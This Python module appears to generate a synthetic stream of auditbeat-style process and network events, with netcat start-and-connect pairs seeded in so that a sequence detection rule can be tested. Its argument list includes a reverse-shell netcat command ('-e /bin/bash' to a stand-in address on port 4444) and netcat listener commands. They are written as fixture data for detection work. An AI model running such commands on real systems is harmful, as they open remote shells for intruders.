"""A stream of process and network events with netcat pairs: what one sequence rule must find."""

from __future__ import annotations

import json
from collections import deque
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from random import Random
from typing import Any

SEED = 4444
"""The seed of the published figures."""

PAIRS = 0.004
"""Netcat starts for each event of the stream; every one of them connects later."""

_HOSTS = 200
_STARTS = 0.6
_FIRST = datetime(2026, 1, 5, tzinfo=UTC)
_PROGRAMS = ("bash", "sshd", "cron", "curl", "python3", "nginx", "rsync", "git", "apt-get", "sed", "java", "ls")
_NETCATS = ("nc", "ncat", "netcat", "netcat.openbsd", "netcat.traditional")
_NETCAT_ARGUMENTS = ("-lvnp 4444", "-l -p 9001", "-e /bin/bash 203.0.113.66 4444", "-w 2 198.51.100.23 9001")
_USERS = ("root", "alice", "www-data", "deploy", "postgres")
_DIRECTORIES = ("/", "/root", "/home/alice", "/srv/releases/2026-01/current", "/var/lib/postgresql/16/main")


@dataclass(frozen=True, slots=True)
class _Process:
    entity: str
    pid: int
    name: str
    arguments: tuple[str, ...]
    user: str
    directory: str


def write_ndjson(path: Path, count: int, seed: int = SEED) -> int:
    """Write the first ``count`` events of a stream to a file, one a line, and give its size in bytes."""
    with path.open("w", encoding="utf-8") as file:
        for document in events(count, seed):
            file.write(json.dumps(document, separators=(",", ":")) + "\n")
        return file.tell()


def events(count: int, seed: int = SEED) -> Iterator[dict[str, Any]]:
    """Process starts and network connections in the order of time, with ``PAIRS * count`` netcat pairs among them.

    Hosts are skewed as in a real fleet: the n-th of 200 has a share of 1/n. Every other connection is that of
    an earlier process of its host. Netcat runs overlap, and each connects exactly once.
    """
    random = Random(seed)  # noqa: S311 - a repeatable stream is the purpose
    weights = [1 / rank for rank in range(1, _HOSTS + 1)]
    hosts = random.choices(range(_HOSTS), weights, k=count)
    starts_left = round(PAIRS * count)
    netcat_turns = set(random.sample(range(count), 2 * starts_left))
    open_netcats: deque[tuple[int, _Process]] = deque()
    recent: list[deque[_Process]] = [deque(maxlen=64) for _ in range(_HOSTS)]
    time = _FIRST
    for number, host in enumerate(hosts):
        time += timedelta(milliseconds=random.randrange(1, 40))
        if number in netcat_turns:
            if open_netcats and (starts_left == 0 or random.random() < 0.5):
                where, process = open_netcats.popleft()
                yield _connection(number, time, where, process, random)
            else:
                starts_left -= 1
                process = _process(random, number, random.choice(_NETCATS), random.choice(_NETCAT_ARGUMENTS))
                open_netcats.append((host, process))
                yield _start(number, time, host, process, random)
        elif not recent[host] or random.random() < _STARTS:
            name = random.choice(_PROGRAMS)
            process = _process(random, number, name, f"--config /etc/{name}/{name}.conf --verbose --job {number}")
            recent[host].append(process)
            yield _start(number, time, host, process, random)
        else:
            yield _connection(number, time, host, random.choice(recent[host]), random)


def _process(random: Random, number: int, name: str, arguments: str) -> _Process:
    return _Process(
        entity=f"{random.getrandbits(64):016x}{number:08x}",
        pid=random.randrange(300, 4_000_000),
        name=name,
        arguments=(name, *arguments.split(" ")),
        user=random.choice(_USERS),
        directory=random.choice(_DIRECTORIES),
    )


def _start(number: int, time: datetime, host: int, process: _Process, random: Random) -> dict[str, Any]:
    document = _common(number, time, host, process)
    document["event"] |= {"category": ["process"], "type": ["start"], "action": "executed"}
    document["process"] |= {
        "args": list(process.arguments),
        "args_count": len(process.arguments),
        "command_line": " ".join(process.arguments),
        "working_directory": process.directory,
        "hash": {"sha256": f"{random.getrandbits(256):064x}", "sha1": f"{random.getrandbits(160):040x}"},
        "parent": {
            "entity_id": f"{random.getrandbits(96):024x}",
            "pid": random.randrange(1, 300),
            "name": "bash",
            "executable": "/usr/bin/bash",
            "args": ["bash", "-c", "/usr/local/bin/nightly --all"],
            "command_line": "bash -c /usr/local/bin/nightly --all",
        },
    }
    return document


def _connection(number: int, time: datetime, host: int, process: _Process, random: Random) -> dict[str, Any]:
    document = _common(number, time, host, process)
    document["event"] |= {"category": ["network"], "type": ["connection", "start"], "action": "connected-to"}
    source = f"10.{host // 256}.{host % 256}.7"
    destination = f"198.51.100.{random.randrange(1, 255)}"
    port = random.choice((53, 80, 443, 5432, 4444, 9001))
    document["network"] = {"direction": "egress", "type": "ipv4", "transport": "tcp", "iana_number": "6"}
    document["source"] = {"ip": source, "address": source, "port": random.randrange(32_768, 60_999)}
    document["destination"] = {
        "ip": destination,
        "address": destination,
        "port": port,
        "domain": f"node-{port}.example.net",
    }
    document["related"]["ip"] = [source, destination]
    return document


def _common(number: int, time: datetime, host: int, process: _Process) -> dict[str, Any]:
    stamp = time.isoformat(timespec="milliseconds").replace("+00:00", "Z")
    name = f"node-{host:03d}.prod.example.net"
    address = f"10.{host // 256}.{host % 256}.7"
    return {
        "@timestamp": stamp,
        "ecs": {"version": "8.11.0"},
        "agent": {"type": "auditbeat", "version": "8.11.0", "id": f"a9e0-{host:08x}", "name": name},
        "event": {"id": f"{number:016x}", "kind": "event", "module": "auditd", "ingested": stamp},
        "host": {
            "id": f"{host:032x}",
            "name": name,
            "hostname": name.partition(".")[0],
            "ip": [address, f"fe80::{host:x}"],
            "mac": [f"02-42-0A-00-00-{host:02X}"],
            "architecture": "x86_64",
            "os": {
                "type": "linux",
                "family": "debian",
                "platform": "debian",
                "name": "Debian GNU/Linux",
                "version": "12 (bookworm)",
                "kernel": "6.1.0-28-amd64",
            },
        },
        "process": {
            "entity_id": process.entity,
            "pid": process.pid,
            "name": process.name,
            "executable": f"/usr/bin/{process.name}",
            "title": " ".join(process.arguments),
        },
        "user": {"id": "1000", "name": process.user, "group": {"id": "1000", "name": process.user}},
        "related": {"user": [process.user], "hosts": [name]},
        "auditd": {
            "session": "7",
            "result": "success",
            "data": {"syscall": "execve", "tty": "pts0", "arch": "x86_64"},
        },
    }
